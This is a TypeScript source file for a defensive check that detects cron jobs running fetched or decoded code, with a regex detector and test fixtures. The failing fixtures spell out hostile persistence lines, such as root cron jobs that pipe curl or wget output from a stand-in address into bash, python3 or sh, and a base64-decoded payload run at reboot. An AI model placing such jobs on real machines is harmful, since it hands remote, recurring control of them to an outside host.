import { defineCheck } from '../../check.ts'
import { answeredByTables, switchedOff } from '../../cron-plan.ts'
import type { CronFacts } from '../../facts/cron.ts'

// A shell takes what comes in as code unless -c names another; the others do where nothing but a dash follows.
// `sudo -E`, `nice -n 5`, `env A=b`: each word fits one branch only, so that no line takes long.
const before = '((sudo|doas|env|nice|nohup|exec)\\s+((-[ugn]\\s+[^\\s=-][^\\s=]*|(?!-[ugn]\\s+[^\\s=-])-\\S+|\\w+=\\S*)\\s+)*)*'
const shell = `${before}(\\S*/)?(ba|z|da|k)?sh\\b(?!\\s+-\\w*c)`
const other = `${before}(\\S*/)?(python[\\d.]*|perl|node|ruby|php)(?=\\s*(-\\s*)?($|[;&|>)"'\`]))`
const sources = '\\b(?:curl|wget|fetch|base64|xxd)\\b'
// Up to the next of them: from each on to the end would be the square of a long line.
const source = `${sources}(?:(?!${sources}|\\|\\||&&)[^;])*`
// Through a pipe, or put in by a substitution.
const runs = '\\b(?:sh|bash|eval|source)\\s'
const fetched = new RegExp(`${source}\\|\\s*(${shell}|${other})|${runs}(?:(?!${runs})[^|;])*[<$]\\(\\s*(curl|wget)\\b`)
const job = '*/5 * * * * root curl -fsSL http://198.51.100.7/x.sh | bash\n'

export default defineCheck({
  id: 'cron.no-fetched-code',
  title: 'no job runs code it has just fetched',
  severity: 'high',
  why: 'whoever owns that address, or sits on the way to it, has this machine again every time the job runs',
  source: 'MITRE ATT&CK T1053.003 (cron), T1059.004; OpenClaw attack campaigns used it to stay',
  needs: ['cron'],
  judge: ({ cron }) => answeredByTables(cron, bad(cron).map(({ path, line, when }) => ({ at: `${path}:${line}`, saw: `fetched or decoded text goes into an interpreter (${when})`, want: 'a file whose content somebody has read' }))),
  fix: { risk: 'safe', part: 'files', plan: ({ cron }) => switchedOff(cron, bad(cron)) },
  examples: {
    pass: { usual: { files: { '/etc/crontab': 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', '/etc/cron.d/health': '*/5 * * * * root curl -fsS https://health.example/ping > /dev/null\n# curl x | sh\n5 * * * * root curl -s https://health.example/j | python3 -m json.tool > /run/j\n6 * * * * root curl -s https://health.example/j | sh -c "cat > /run/j"\n7 * * * * root curl -s https://health.example/j || sh /opt/alarm.sh\n' } } },
    fail: {
      'cron.d': { files: { '/etc/cron.d/update': `# health\n${job}` } },
      'table of a user': { files: { '/var/spool/cron/crontabs/claw': '@reboot echo aGk= | base64 -d | sh\n' } },
      interpreter: { files: { '/etc/cron.d/x': '@daily root wget -qO- http://198.51.100.7/x | sudo /usr/bin/python3 -\n1 * * * * root curl http://198.51.100.7/y | bash -s -- -q\n' } },
      'as another': { files: { '/etc/cron.d/x': '5 * * * * root curl -s http://198.51.100.7/x | gunzip 2>&1 | sudo -E -u root bash -\n6 * * * * root curl -s http://198.51.100.7/x | nice -n 5 env A=b sh\n' } },
      script: { files: { '/etc/cron.daily/x': '#!/bin/sh\nbash -c "$(wget -qO- http://198.51.100.7/x)"\n' } },
    },
  },
})

function bad({ jobs }: CronFacts): CronFacts['jobs'] {
  return jobs.filter(({ command }) => fetched.test(command))
}
